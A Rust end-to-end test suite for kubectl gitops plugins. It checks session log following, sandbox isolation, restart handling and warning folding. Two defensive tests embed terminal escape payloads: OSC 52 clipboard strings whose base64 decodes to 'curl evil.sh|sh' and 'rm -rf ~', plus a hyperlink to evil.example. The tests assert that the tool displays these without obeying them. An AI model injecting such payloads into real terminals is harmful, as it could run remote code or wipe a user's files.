//! The logs of a session's pods as the user sees them, through the real
//! API server: a real container crash-looping on the harness's real Node
//! (every run shown once), and kwok playing the kubelet where a test must
//! write the log itself (logs from files through kwok's `Logs`/`ClusterLogs`):
//! only this session's pods in a shared sandbox, a workload's escape
//! sequences shown, not obeyed, a log that cannot be read yet.
//! The reference is what the API server holds (restart counts, pods and
//! their owners), never the plugins' own code.

// A test that cannot reach its peer, or finds the world other than it
// expects, fails loudly: panics are these tests' verdicts.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::io::{BufRead, BufReader};
use std::path::Path;
use std::process::{Child, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use gitops_e2e::{
    Harness, RunningSession, configmap, eventually, output, plugin, unique, write_tree,
};
use k8s_openapi::api::core::v1::Pod;
use kube::api::{Api, ListParams, Patch, PatchParams};
use kube::{Client, ResourceExt};

const WAIT: Duration = Duration::from_secs(90);

/// A Deployment `name` whose one container is `container` (pods labelled
/// `app: web` whatever the name, so selectors of two sessions overlap).
fn deployment(name: &str, container: &str, template_labels: &str) -> String {
    format!(
        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: {name}\nspec:\n  replicas: 1\n  selector:\n    matchLabels:\n      app: web\n      deploy: {name}\n  template:\n    metadata:\n      labels:\n        app: web\n        deploy: {name}\n{template_labels}    spec:\n      containers:\n      - name: {container}\n        image: example/web:1\n        resources:\n          requests:\n            cpu: 50m\n"
    )
}

fn app(dir: &Path, name: &str, container: &str, template_labels: &str) {
    write_tree(
        dir,
        &[
            (
                "deploy/deployment.yaml",
                &deployment(name, container, template_labels),
            ),
            (
                "deploy/kustomization.yaml",
                "resources:\n- deployment.yaml\n",
            ),
        ],
    );
}

/// A log file in the CRI format kwok reads, one line per text.
fn write_log(file: &Path, lines: &[&str]) {
    let text: String = lines
        .iter()
        .enumerate()
        .map(|(i, l)| format!("2026-01-02T03:04:05.{:09}Z stdout F {l}\n", i + 1))
        .collect();
    // Replaced whole (a new file), as a new run's log is.
    let tmp = file.with_extension("tmp");
    std::fs::write(&tmp, text).unwrap();
    std::fs::rename(&tmp, file).unwrap();
}

/// A kwok ClusterLogs `name`: in namespace `ns`, each container's log is its file.
fn cluster_logs(harness: &Harness, name: &str, ns: &str, files: &[(&str, &Path)]) {
    let logs: String = files
        .iter()
        .map(|(c, f)| {
            format!(
                "  - containers: [{c}]\n    logsFile: {}\n    follow: true\n",
                f.display()
            )
        })
        .collect();
    harness.kubectl_apply(&format!(
        "apiVersion: kwok.x-k8s.io/v1alpha1\nkind: ClusterLogs\nmetadata:\n  name: {name}\n  labels:\n    app.kubernetes.io/managed-by: kubectl-gitops-e2e\nspec:\n  selector:\n    matchNamespaces: [{ns}]\n  logs:\n{logs}"
    ));
}

fn kubectl(harness: &Harness, args: &[&str]) -> gitops_e2e::Output {
    output(
        std::process::Command::new("kubectl")
            .args(harness.kube_args())
            .args(args),
    )
}

/// `kubectl gitops-sessions logs NAME`, its stdout lines (raw bytes) as they come.
struct Logs {
    child: Child,
    lines: mpsc::Receiver<Vec<u8>>,
    /// Every line so far.
    seen: Vec<Vec<u8>>,
}

impl Logs {
    fn start(harness: &Harness, session: &str) -> Logs {
        let mut child = plugin("kubectl-gitops_sessions")
            .args(harness.kube_args())
            .args(["logs", session])
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .spawn()
            .unwrap();
        let stdout = child.stdout.take().unwrap();
        let (tx, lines) = mpsc::channel();
        std::thread::spawn(move || {
            for line in BufReader::new(stdout).split(b'\n') {
                let Ok(line) = line else { break };
                if tx.send(line).is_err() {
                    break;
                }
            }
        });
        Logs {
            child,
            lines,
            seen: Vec::new(),
        }
    }

    fn text(&self) -> Vec<String> {
        self.seen
            .iter()
            .map(|l| String::from_utf8_lossy(l).into_owned())
            .collect()
    }

    /// Waits until a line holds `want`; panics with what was printed.
    fn wait_for(&mut self, want: &str, timeout: Duration) {
        if self.text().iter().any(|l| l.contains(want)) {
            return;
        }
        let deadline = Instant::now() + timeout;
        while let Ok(l) = self
            .lines
            .recv_timeout(deadline.saturating_duration_since(Instant::now()))
        {
            let found = String::from_utf8_lossy(&l).contains(want);
            self.seen.push(l);
            if found {
                return;
            }
        }
        panic!(
            "gitops-sessions logs printed no line with {want:?} within {timeout:?}; it printed {:?}",
            self.text()
        );
    }

    /// Takes what arrives within `window`.
    fn drain(&mut self, window: Duration) {
        let deadline = Instant::now() + window;
        while let Ok(l) = self
            .lines
            .recv_timeout(deadline.saturating_duration_since(Instant::now()))
        {
            self.seen.push(l);
        }
    }

    fn count(&self, want: &str) -> usize {
        self.text().iter().filter(|l| l.contains(want)).count()
    }
}

impl Drop for Logs {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// The log lines (`line`) the session's `--logs` reported so far.
fn session_lines(s: &RunningSession) -> Vec<String> {
    s.seen
        .iter()
        .filter(|e| e["event"] == "log")
        .filter_map(|e| e["line"].as_str().map(String::from))
        .collect()
}

/// A log event with `line` already seen, or the next one.
fn log_event(s: &mut RunningSession, line: &str) {
    if !s
        .seen
        .iter()
        .any(|e| e["event"] == "log" && e["line"] == line)
    {
        s.wait_for(&format!("the log line {line:?}"), WAIT, |e| {
            e["event"] == "log" && e["line"] == line
        });
    }
}

/// The one pod of Deployment `name`, as the API server holds it.
async fn pod_of(pods: &Api<Pod>, name: &str) -> Pod {
    eventually(&format!("one pod of {name}"), WAIT, || async {
        let list = pods
            .list(&ListParams::default().labels(&format!("deploy={name}")))
            .await
            .map_err(|e| e.to_string())?;
        match list.items.as_slice() {
            [p] if p
                .status
                .as_ref()
                .and_then(|s| s.container_statuses.as_ref())
                .is_some() =>
            {
                Ok(p.clone())
            }
            other => Err(format!("{} pods", other.len())),
        }
    })
    .await
}

fn restarts(pod: &Pod) -> i32 {
    pod.status
        .as_ref()
        .and_then(|s| s.container_statuses.as_ref())
        .and_then(|c| c.first())
        .map_or(0, |c| c.restart_count)
}

/// A Deployment `name` on the harness's real Node: one busybox container
/// `web` running `script` (sh -c), with an emptyDir at /data that outlives
/// its restarts.
fn real_deployment(harness: &Harness, name: &str, script: &str) -> String {
    format!(
        "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: {name}\nspec:\n  replicas: 1\n  selector:\n    matchLabels:\n      app: web\n      deploy: {name}\n  template:\n    metadata:\n      labels:\n        app: web\n        deploy: {name}\n    spec:\n{}      volumes:\n      - name: data\n        emptyDir: {{}}\n      containers:\n      - name: web\n        image: {}\n        command: [sh, -c, {}]\n        volumeMounts:\n        - name: data\n          mountPath: /data\n        resources:\n          requests:\n            cpu: 50m\n",
        gitops_e2e::on_real_node(6),
        harness.image("busybox:harness"),
        serde_json::to_string(script).unwrap()
    )
}

/// A real container in CrashLoopBackOff on the real Node (busybox: each
/// run counts itself in an emptyDir, prints two lines and exits 1; the
/// kubelet restarts it after its back-off): each run's lines reach
/// `gitops-sessions logs` and `--logs` across the restarts, and no run is
/// shown twice (never more runs than the API server counts).
#[tokio::test]
async fn every_run_of_a_crash_looping_container_is_shown_once() {
    let harness = Harness::get();
    let client = harness.cluster().await.client;
    let dir = tempfile::tempdir().unwrap();
    let ns = unique("run-crashlogs");
    let script = "n=$(cat /data/runs 2>/dev/null || echo 0); n=$((n+1)); echo $n >/data/runs; \
        echo \"run $n: connecting to db\"; sleep 1; echo \"run $n: db refused the password\" >&2; exit 1";
    write_tree(
        dir.path(),
        &[
            (
                "deploy/deployment.yaml",
                &real_deployment(&harness, "web", script),
            ),
            (
                "deploy/kustomization.yaml",
                "resources:\n- deployment.yaml\n",
            ),
        ],
    );

    let started = Instant::now();
    let mut s = RunningSession::start(&harness, dir.path(), &["deploy", "--name", &ns, "--logs"]);
    // The first run the session sees (the container may have run before it
    // followed the pod: the kubelet starts it within a second of the apply).
    let first = s.wait_for("a run's first line", WAIT, |e| {
        e["event"] == "log"
            && e["line"]
                .as_str()
                .is_some_and(|l| l.ends_with(": connecting to db"))
    });
    let k: usize = first["line"]
        .as_str()
        .and_then(|l| l.strip_prefix("run "))
        .and_then(|l| l.split(':').next())
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("not a run's line: {first}"));
    eprintln!("run {k} shown {:?} after the start", started.elapsed());
    let mut logs = Logs::start(&harness, &ns);
    logs.wait_for(": connecting to db", WAIT);

    // The kubelet's own account, on the API server: the container exited
    // with code 1, waits in CrashLoopBackOff, and ran again.
    let pods: Api<Pod> = Api::namespaced(client.clone(), &ns);
    let pod = pod_of(&pods, "web").await;
    assert_eq!(
        pod.spec.as_ref().and_then(|s| s.node_name.as_deref()),
        Some(harness.real_node())
    );
    let name = pod.name_any();
    eventually(
        "the container in CrashLoopBackOff after exiting 1",
        WAIT,
        || async {
            let p = pods.get(&name).await.map_err(|e| e.to_string())?;
            let c = p
                .status
                .as_ref()
                .and_then(|s| s.container_statuses.as_ref())
                .and_then(|c| c.first())
                .cloned()
                .ok_or("no container status")?;
            let waiting = c.state.as_ref().and_then(|s| s.waiting.as_ref());
            let last_exit = c
                .last_state
                .as_ref()
                .and_then(|s| s.terminated.as_ref())
                .map(|t| t.exit_code);
            if waiting.and_then(|w| w.reason.as_deref()) == Some("CrashLoopBackOff")
                && last_exit == Some(1)
            {
                Ok(())
            } else {
                Err(format!("{c:?}"))
            }
        },
    )
    .await;
    eventually("a restart", WAIT, || async {
        let r = restarts(&pod_of(&pods, "web").await);
        if r as usize >= k {
            Ok(r)
        } else {
            Err(format!("restartCount {r}"))
        }
    })
    .await;
    // The next run, after a real restart: both its lines, in both views.
    let next = k + 1;
    logs.wait_for(&format!("run {next}: connecting to db"), WAIT);
    logs.wait_for(&format!("run {next}: db refused the password"), WAIT);
    log_event(&mut s, &format!("run {next}: connecting to db"));
    log_event(&mut s, &format!("run {next}: db refused the password"));
    eprintln!("run {next} shown {:?} after the start", started.elapsed());

    // Never a run twice: each run printed each line once, and no more runs
    // are shown than the container had.
    logs.drain(Duration::from_secs(1));
    let _ = s.events_within(Duration::from_secs(1));
    let runs = restarts(&pod_of(&pods, "web").await) as usize + 1;
    let reported = session_lines(&s);
    for n in 1..=runs + 1 {
        for what in ["connecting to db", "db refused the password"] {
            let line = format!("run {n}: {what}");
            assert!(logs.count(&line) <= 1, "{line:?} twice: {:?}", logs.text());
            assert!(
                reported.iter().filter(|l| **l == line).count() <= 1,
                "--logs: {line:?} twice: {reported:?}"
            );
        }
    }
    assert!(
        logs.count(&format!("run {}: ", runs + 1)) == 0,
        "a run the API server does not count: {:?}",
        logs.text()
    );

    drop(logs);
    s.signal("INT");
    assert_eq!(s.wait_exit(Duration::from_secs(120)), Some(0));
    eprintln!("session stopped {:?} after the start", started.elapsed());
}

/// A running container restarted (as the kubelet reports it: the restart
/// count and a new start time in the pod's status) is followed into its
/// new run, whose log is another file: its lines show up once, the old
/// run's are not shown again.
#[tokio::test]
async fn a_restarted_container_is_followed_into_its_next_run() {
    let harness = Harness::get();
    let client = harness.cluster().await.client;
    let dir = tempfile::tempdir().unwrap();
    let ns = unique("run-restartlogs");
    app(dir.path(), "web", "web", "");
    let first = dir.path().join("first.log");
    write_log(&first, &["run 1: listening on :8080"]);
    cluster_logs(&harness, &ns, &ns, &[("web", &first)]);

    let mut s = RunningSession::start(&harness, dir.path(), &["deploy", "--name", &ns, "--logs"]);
    s.next_sync().unwrap();
    let mut logs = Logs::start(&harness, &ns);
    logs.wait_for("run 1: listening on :8080", WAIT);

    // The second run's log: a Logs object for this pod (it wins over the
    // ClusterLogs), in force before the restart is reported.
    let pods: Api<Pod> = Api::namespaced(client.clone(), &ns);
    let pod = pod_of(&pods, "web").await;
    let name = pod.name_any();
    assert_eq!(restarts(&pod), 0);
    let second = dir.path().join("second.log");
    write_log(&second, &["run 2: listening on :8080 again"]);
    harness.kubectl_apply(&format!(
        "apiVersion: kwok.x-k8s.io/v1alpha1\nkind: Logs\nmetadata:\n  name: {name}\n  namespace: {ns}\nspec:\n  logs:\n  - containers: [web]\n    logsFile: {}\n    follow: true\n",
        second.display()
    ));
    eventually("kwok to serve the second run's log", WAIT, || async {
        let text = pods
            .logs(&name, &Default::default())
            .await
            .map_err(|e| e.to_string())?;
        if text.contains("run 2") {
            Ok(())
        } else {
            Err(text)
        }
    })
    .await;
    // The restart, reported as a kubelet does (kwok's stages leave a running
    // pod's status alone). kwok sets no container ID, so the run is told by
    // its start time, in whole seconds: the second run starts at least a
    // second after the first.
    tokio::time::sleep(Duration::from_millis(1100)).await;
    let now = chrono::Utc::now().to_rfc3339_opts(chrono::SecondsFormat::Secs, true);
    let started = pod
        .status
        .as_ref()
        .and_then(|s| s.container_statuses.as_ref())
        .and_then(|c| c.first())
        .and_then(|c| c.state.as_ref())
        .and_then(|s| s.running.as_ref())
        .and_then(|r| r.started_at.as_ref())
        .map(|t| t.0.to_string())
        .unwrap_or_else(|| now.clone());
    let patch = serde_json::json!({
        "status": {"containerStatuses": [{
            "name": "web",
            "image": "example/web:1",
            "imageID": "",
            "ready": true,
            "started": true,
            "restartCount": 1,
            "lastState": {"terminated": {"exitCode": 137, "reason": "Error", "startedAt": started, "finishedAt": now}},
            "state": {"running": {"startedAt": now}}
        }]}
    });
    pods.patch_status(&name, &PatchParams::default(), &Patch::Strategic(&patch))
        .await
        .unwrap();
    let pod = pods.get(&name).await.unwrap();
    assert_eq!(restarts(&pod), 1, "the API server holds the restart");

    logs.wait_for("run 2: listening on :8080 again", WAIT);
    log_event(&mut s, "run 2: listening on :8080 again");
    logs.drain(Duration::from_secs(3));
    let _ = s.events_within(Duration::from_secs(1));
    assert_eq!(logs.count("run 1: "), 1, "{:?}", logs.text());
    assert_eq!(logs.count("run 2: "), 1, "{:?}", logs.text());
    let lines = session_lines(&s);
    assert_eq!(
        (
            lines.iter().filter(|l| l.starts_with("run 1: ")).count(),
            lines.iter().filter(|l| l.starts_with("run 2: ")).count()
        ),
        (1, 1),
        "{lines:?}"
    );

    drop(logs);
    s.signal("INT");
    assert_eq!(s.wait_exit(Duration::from_secs(120)), Some(0));
    let _ = kubectl(
        &harness,
        &["delete", "clusterlogs", &ns, "--ignore-not-found"],
    );
}

/// The controller chain of a pod up to the object Flux applied: `Kind/name`s.
async fn owner_chain(client: &Client, ns: &str, pod: &Pod) -> Vec<String> {
    use k8s_openapi::api::apps::v1::ReplicaSet;
    let mut chain = Vec::new();
    let mut owner = pod
        .owner_references()
        .iter()
        .find(|o| o.controller == Some(true))
        .cloned();
    while let Some(o) = owner {
        chain.push(format!("{}/{}", o.kind, o.name));
        owner = if o.kind == "ReplicaSet" {
            let rs = Api::<ReplicaSet>::namespaced(client.clone(), ns)
                .get(&o.name)
                .await
                .unwrap();
            rs.owner_references()
                .iter()
                .find(|o| o.controller == Some(true))
                .cloned()
        } else {
            None
        };
    }
    chain
}

/// Two sessions in one sandbox (`gitops-sandbox create`, then `--sandbox`),
/// their pods labelled alike: each one's logs hold its own pods' lines only.
#[tokio::test]
async fn sessions_sharing_a_sandbox_see_only_their_own_pods() {
    let harness = Harness::get();
    let client = harness.cluster().await.client;
    let sbx = unique("sbx-logs");
    let created = output(
        plugin("kubectl-gitops_sandbox")
            .args(harness.kube_args())
            .args(["create", &sbx]),
    );
    assert_eq!(created.code, Some(0), "{created:?}");
    let (dir_a, dir_b) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    app(dir_a.path(), "web-a", "a", "");
    app(dir_b.path(), "web-b", "b", "");
    let (log_a, log_b) = (dir_a.path().join("a.log"), dir_b.path().join("b.log"));
    write_log(&log_a, &["alpha: session A's pod"]);
    write_log(&log_b, &["bravo: session B's pod"]);
    cluster_logs(&harness, &sbx, &sbx, &[("a", &log_a), ("b", &log_b)]);

    let (name_a, name_b) = (unique("run-la"), unique("run-lb"));
    let mut a = RunningSession::start(
        &harness,
        dir_a.path(),
        &["deploy", "--name", &name_a, "--sandbox", &sbx, "--logs"],
    );
    a.next_sync().unwrap();
    let mut b = RunningSession::start(
        &harness,
        dir_b.path(),
        &["deploy", "--name", &name_b, "--sandbox", &sbx, "--logs"],
    );
    b.next_sync().unwrap();

    // Both pods run in the sandbox, each under its own session's Deployment.
    let pods: Api<Pod> = Api::namespaced(client.clone(), &sbx);
    let (pod_a, pod_b) = (pod_of(&pods, "web-a").await, pod_of(&pods, "web-b").await);
    let chain_a = owner_chain(&client, &sbx, &pod_a).await;
    assert_eq!(chain_a.last().map(String::as_str), Some("Deployment/web-a"));
    let chain_b = owner_chain(&client, &sbx, &pod_b).await;
    assert_eq!(chain_b.last().map(String::as_str), Some("Deployment/web-b"));
    assert_eq!(pod_a.labels().get("app"), pod_b.labels().get("app"));

    let mut logs_a = Logs::start(&harness, &name_a);
    let mut logs_b = Logs::start(&harness, &name_b);
    logs_a.wait_for("alpha: session A's pod", WAIT);
    logs_b.wait_for("bravo: session B's pod", WAIT);
    log_event(&mut a, "alpha: session A's pod");
    log_event(&mut b, "bravo: session B's pod");
    // Time for the other pod's line to arrive, if it were followed.
    logs_a.drain(Duration::from_secs(4));
    logs_b.drain(Duration::from_secs(1));
    let _ = a.events_within(Duration::from_secs(1));
    let _ = b.events_within(Duration::from_secs(1));
    assert_eq!(logs_a.count("bravo"), 0, "{:?}", logs_a.text());
    assert_eq!(logs_b.count("alpha"), 0, "{:?}", logs_b.text());
    assert_eq!(session_lines(&a), ["alpha: session A's pod"]);
    assert_eq!(session_lines(&b), ["bravo: session B's pod"]);
    let pod_a_name = pod_a.name_any();
    assert!(
        logs_a
            .text()
            .iter()
            .all(|l| l.starts_with(&format!("[{pod_a_name}/a] "))),
        "{:?}",
        logs_a.text()
    );

    drop((logs_a, logs_b));
    for s in [&mut a, &mut b] {
        s.signal("INT");
        assert_eq!(s.wait_exit(Duration::from_secs(120)), Some(0));
    }
    let _ = kubectl(
        &harness,
        &["delete", "clusterlogs", &sbx, "--ignore-not-found"],
    );
    let deleted = output(
        plugin("kubectl-gitops_sandbox")
            .args(harness.kube_args())
            .args(["delete", &sbx]),
    );
    assert_eq!(deleted.code, Some(0), "{deleted:?}");
}

/// A workload's log holding escape sequences (OSC 52 clipboard, OSC 8
/// hyperlink, CSI cursor moves, a C1 CSI as UTF-8) reaches the terminal of
/// `gitops-sessions logs` and of `gitops-run --logs` as visible text, with
/// no byte a terminal acts on; `-o json` keeps the bytes as they are.
#[tokio::test]
async fn escape_sequences_in_a_pods_log_are_shown_not_obeyed() {
    let harness = Harness::get();
    let dir = tempfile::tempdir().unwrap();
    let ns = unique("run-esclogs");
    app(dir.path(), "web", "web", "");
    let hostile = "evil \u{1b}]52;c;Y3VybCBldmlsLnNofHNo\u{7} \u{1b}]8;;https://evil.example\u{1b}\\docs\u{1b}]8;;\u{1b}\\ \u{1b}[2J\u{1b}[1;1H \u{9b}31m end\u{1b}";
    let log = dir.path().join("web.log");
    write_log(&log, &[hostile]);
    cluster_logs(&harness, &ns, &ns, &[("web", &log)]);

    // JSON keeps the bytes.
    let mut s = RunningSession::start(&harness, dir.path(), &["deploy", "--name", &ns, "--logs"]);
    let e = s.wait_for("the hostile line", WAIT, |e| e["event"] == "log");
    assert_eq!(e["line"], hostile);

    let mut logs = Logs::start(&harness, &ns);
    logs.wait_for("evil ", WAIT);
    let line = logs
        .seen
        .iter()
        .find(|l| String::from_utf8_lossy(l).contains("evil "))
        .unwrap()
        .clone();
    assert!(!line.contains(&0x1b), "raw ESC written: {line:?}");
    assert!(
        !line.windows(2).any(|w| w == [0xc2, 0x9b]),
        "raw C1 CSI written: {line:?}"
    );
    assert!(!line.iter().any(|b| *b < 0x20 && *b != b'\t'), "{line:?}");
    let text = String::from_utf8(line).unwrap();
    assert!(text.ends_with(
        "evil \\x1b]52;c;Y3VybCBldmlsLnNofHNo\\x07 \\x1b]8;;https://evil.example\\x1b\\docs\\x1b]8;;\\x1b\\ \\x1b[2J\\x1b[1;1H \\u{9b}31m end\\x1b"
    ), "{text}");

    // The session's own text output (what a terminal would get: the rule
    // holds for all text output, terminal or not).
    let ns_text = format!("{ns}-text");
    cluster_logs(&harness, &ns_text, &ns_text, &[("web", &log)]);
    let mut text_run = plugin("kubectl-gitops_run")
        .args(harness.kube_args())
        .args(["deploy", "--name", &ns_text, "--logs"])
        .current_dir(dir.path())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let stderr = text_run.stderr.take().unwrap();
    let (tx, rx) = mpsc::channel::<Vec<u8>>();
    std::thread::spawn(move || {
        for line in BufReader::new(stderr).split(b'\n') {
            let Ok(line) = line else { break };
            if tx.send(line).is_err() {
                break;
            }
        }
    });
    let deadline = Instant::now() + WAIT;
    let mut printed = Vec::new();
    let line = loop {
        match rx.recv_timeout(deadline.saturating_duration_since(Instant::now())) {
            Ok(l) if String::from_utf8_lossy(&l).contains("evil ") => break l,
            Ok(l) => printed.push(String::from_utf8_lossy(&l).into_owned()),
            Err(_) => panic!("gitops-run --logs printed no such line: {printed:?}"),
        }
    };
    assert!(
        !line.iter().any(|b| *b < 0x20 && *b != b'\t')
            && !line.windows(2).any(|w| w == [0xc2, 0x9b]),
        "{line:?}"
    );
    assert!(
        String::from_utf8_lossy(&line).contains("] evil \\x1b]52;c;Y3VybCBldmlsLnNofHNo\\x07 "),
        "{line:?}"
    );
    let _ = std::process::Command::new("kill")
        .args(["-INT", &text_run.id().to_string()])
        .status();
    let deadline = Instant::now() + Duration::from_secs(120);
    while text_run.try_wait().unwrap().is_none() {
        assert!(
            Instant::now() < deadline,
            "gitops-run did not stop on Ctrl+C"
        );
        std::thread::sleep(Duration::from_millis(200));
    }

    s.signal("INT");
    assert_eq!(s.wait_exit(Duration::from_secs(120)), Some(0));
    for n in [&ns, &ns_text] {
        let _ = kubectl(
            &harness,
            &["delete", "clusterlogs", n, "--ignore-not-found"],
        );
    }
}

/// A container whose log cannot be read at first (kwok has no file for it
/// yet: `pods/log` fails) is retried while it runs: once the log exists,
/// its lines show up in `--logs` and `gitops-sessions logs`, once.
#[tokio::test]
async fn a_log_that_cannot_be_read_yet_is_retried() {
    let harness = Harness::get();
    let client = harness.cluster().await.client;
    let dir = tempfile::tempdir().unwrap();
    let ns = unique("run-latelogs");
    app(dir.path(), "web", "web", "");
    let mut s = RunningSession::start(&harness, dir.path(), &["deploy", "--name", &ns, "--logs"]);
    s.next_sync().unwrap();
    let mut logs = Logs::start(&harness, &ns);
    // The API server cannot serve the log yet.
    let pods: Api<Pod> = Api::namespaced(client.clone(), &ns);
    let name = pod_of(&pods, "web").await.name_any();
    let failed = pods.logs(&name, &Default::default()).await;
    assert!(failed.is_err(), "{failed:?}");
    // Both followers have tried (and failed) by now.
    tokio::time::sleep(Duration::from_secs(3)).await;
    let log = dir.path().join("web.log");
    write_log(&log, &["late: the log exists now"]);
    cluster_logs(&harness, &ns, &ns, &[("web", &log)]);
    logs.wait_for("late: the log exists now", WAIT);
    log_event(&mut s, "late: the log exists now");
    logs.drain(Duration::from_secs(2));
    assert_eq!(logs.count("late: "), 1, "{:?}", logs.text());

    drop(logs);
    s.signal("INT");
    assert_eq!(s.wait_exit(Duration::from_secs(120)), Some(0));
    let _ = kubectl(
        &harness,
        &["delete", "clusterlogs", &ns, "--ignore-not-found"],
    );
}

/// A burst of Warning events about the session's Kustomization (created on
/// the API server as a controller does, 30 at once) is shown within
/// seconds, folded into one line that says how many it stands for, not one
/// event every 2 s.
#[tokio::test]
async fn a_burst_of_flux_warnings_is_shown_at_once_folded() {
    use k8s_openapi::api::core::v1::{Event, ObjectReference};
    use k8s_openapi::apimachinery::pkg::apis::meta::v1::Time;
    let harness = Harness::get();
    let client = harness.cluster().await.client;
    let dir = tempfile::tempdir().unwrap();
    let ns = unique("run-burst");
    app(dir.path(), "web", "web", "");
    let mut s = RunningSession::start(&harness, dir.path(), &["deploy", "--name", &ns]);
    s.next_sync().unwrap();

    let events: Api<Event> = Api::namespaced(client.clone(), &ns);
    let start = Instant::now();
    for i in 0..30 {
        let now = Time(k8s_openapi::jiff::Timestamp::now());
        let e = Event {
            metadata: kube::api::ObjectMeta {
                name: Some(format!("{ns}.burst{i}")),
                labels: Some(
                    [(
                        "app.kubernetes.io/managed-by".to_string(),
                        "kubectl-gitops-e2e".to_string(),
                    )]
                    .into(),
                ),
                ..Default::default()
            },
            involved_object: ObjectReference {
                api_version: Some("kustomize.toolkit.fluxcd.io/v1".into()),
                kind: Some("Kustomization".into()),
                name: Some(ns.clone()),
                namespace: Some(ns.clone()),
                ..Default::default()
            },
            type_: Some("Warning".into()),
            reason: Some("ReconciliationFailed".into()),
            message: Some(format!("burst {i}: the payload is refused")),
            count: Some(1),
            first_timestamp: Some(now.clone()),
            last_timestamp: Some(now),
            source: Some(k8s_openapi::api::core::v1::EventSource {
                component: Some("kustomize-controller".into()),
                ..Default::default()
            }),
            ..Default::default()
        };
        events.create(&Default::default(), &e).await.unwrap();
    }
    let held = events
        .list(&ListParams::default().fields(&format!("involvedObject.name={ns},type=Warning")))
        .await
        .unwrap()
        .items;
    assert!(
        held.iter()
            .filter(|e| e.reason.as_deref() == Some("ReconciliationFailed"))
            .count()
            >= 30
    );
    // All 30 accounted for within a few seconds.
    let mut accounted = 0;
    let deadline = start + Duration::from_secs(8);
    while accounted < 30 && Instant::now() < deadline {
        for e in s.events_within(Duration::from_millis(200)) {
            let Some(m) = e["message"].as_str().filter(|_| e["event"] == "warning") else {
                continue;
            };
            if !m.starts_with(&format!("Kustomization/{ns}: ReconciliationFailed: burst ")) {
                continue;
            }
            let folded: usize = m
                .split(" (")
                .nth(1)
                .and_then(|r| r.split(' ').next())
                .and_then(|n| n.parse().ok())
                .unwrap_or(0);
            accounted += 1 + folded;
        }
    }
    let warnings: Vec<String> = s
        .seen
        .iter()
        .filter(|e| e["event"] == "warning")
        .map(|e| e.to_string())
        .collect();
    assert_eq!(accounted, 30, "within {:?}: {warnings:?}", start.elapsed());
    assert!(warnings.len() <= 3, "{warnings:?}");

    s.signal("INT");
    assert_eq!(s.wait_exit(Duration::from_secs(120)), Some(0));
}

/// What another user may write into a session's Lease (its annotations:
/// the source directory, here with escape sequences) is shown, not obeyed,
/// by `kubectl gitops-sessions` (table and describe); `-o json` keeps it.
#[tokio::test]
async fn lease_annotations_are_shown_not_obeyed() {
    use k8s_openapi::api::coordination::v1::Lease;
    let harness = Harness::get();
    let client = harness.cluster().await.client;
    let dir = tempfile::tempdir().unwrap();
    write_tree(dir.path(), &[("cm.yaml", &configmap("c", &[("a", "1")]))]);
    let ns = unique("run-esclease");
    let ran = output(
        plugin("kubectl-gitops_run")
            .args(harness.kube_args())
            .args(["--name", &ns, "--once", "--keep"])
            .current_dir(dir.path()),
    );
    assert_eq!(ran.code, Some(0), "{ran:?}");
    let hostile = "/home/x\u{1b}]52;c;cm0gLXJmIH4=\u{7}\u{1b}[2J\u{9b}1;1H";
    let leases: Api<Lease> = Api::namespaced(client.clone(), &ns);
    leases
        .patch(
            &ns,
            &PatchParams::default(),
            &Patch::Merge(serde_json::json!({
                "metadata": {"annotations": {"gitops.kubectl.dev/dir": hostile}}
            })),
        )
        .await
        .unwrap();
    let held = leases.get(&ns).await.unwrap();
    assert_eq!(
        held.annotations()
            .get("gitops.kubectl.dev/dir")
            .map(String::as_str),
        Some(hostile)
    );
    let sessions = |args: &[&str]| {
        let out = output(
            plugin("kubectl-gitops_sessions")
                .args(harness.kube_args())
                .args(args),
        );
        assert_eq!(out.code, Some(0), "{out:?}");
        out.stdout
    };
    for args in [
        &["-A"][..],
        &["-A", "-o", "wide"][..],
        &["describe", &ns, "-n", &ns][..],
    ] {
        let text = sessions(args);
        assert!(text.contains(&ns), "{args:?}: {text}");
        assert!(
            !text
                .chars()
                .any(|c| c.is_control() && c != '\n' && c != '\t'),
            "{args:?}: {text:?}"
        );
        if args[0] == "-A" {
            let row = text.lines().find(|l| l.starts_with(&ns)).unwrap();
            assert!(
                row.contains("/home/x\\x1b]52;c;cm0gLXJmIH4=\\x07\\x1b[2J\\u{9b}1;1H"),
                "{row}"
            );
        }
    }
    let json = sessions(&["-A", "-o", "json"]);
    let listed: serde_json::Value = serde_json::from_str(&json).unwrap();
    let mine = listed
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["name"] == ns.as_str())
        .unwrap();
    assert_eq!(mine["source"], hostile);

    let deleted = output(
        plugin("kubectl-gitops_sessions")
            .args(harness.kube_args())
            .args(["delete", &ns, "-n", &ns, "--force"]),
    );
    assert_eq!(deleted.code, Some(0), "{deleted:?}");
}
